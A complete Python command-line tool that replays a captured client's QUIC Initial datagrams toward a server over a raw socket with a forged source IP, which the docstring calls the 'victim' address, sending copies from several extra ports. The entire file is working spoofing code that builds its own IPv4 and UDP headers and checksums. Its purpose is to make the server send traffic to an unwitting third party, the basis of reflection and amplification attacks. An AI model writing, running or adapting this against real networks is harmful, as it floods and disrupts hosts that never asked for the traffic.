#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Initials of one client of a capture again, with a victim's address.

    quic_spoof.py PCAP CLIENT VICTIM SERVER DEV MAC [PORT...]

Every client datagram of CLIENT in PCAP (Ethernet, IPv4) that begins with a QUIC long
header leaves DEV to the neighbour MAC as if VICTIM had sent it: from the port it had
and from each PORT. Prints how many.
"""
import socket
import struct
import sys


def packets(path):
    with open(path, "rb") as f:
        head = f.read(24)
        order = "<" if head[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
        while len(record := f.read(16)) == 16:
            length = struct.unpack(order + "IIII", record)[2]
            yield f.read(length)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(src, dst, sport, dport, payload):
    length = 8 + len(payload)
    pseudo = src + dst + struct.pack(">BBH", 0, 17, length)
    udp = struct.pack(">HHHH", sport, dport, length, 0) + payload
    udp = udp[:6] + struct.pack(">H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, 1, 0x4000, 64, 17, 0) + src + dst
    return ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + udp


def main():
    pcap, client, victim, server, dev, mac, *ports = sys.argv[1:]
    client, victim, server = (socket.inet_aton(a) for a in (client, victim, server))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((dev, 0))
    ether = bytes.fromhex(mac.replace(":", "")) + sock.getsockname()[4] + b"\x08\x00"
    sent = 0
    for p in packets(pcap):
        if p[12:14] != b"\x08\x00" or p[23] != 17 or p[26:30] != client or p[30:34] != server:
            continue
        sport, dport = struct.unpack(">HH", p[34:38])
        payload = p[42:]
        if not payload or not payload[0] & 0x80:
            continue
        for port in [sport, *map(int, ports)]:
            sock.send(ether + datagram(victim, server, port, dport, payload))
            sent += 1
    print(sent)
    sys.exit(0 if sent else 1)


main()
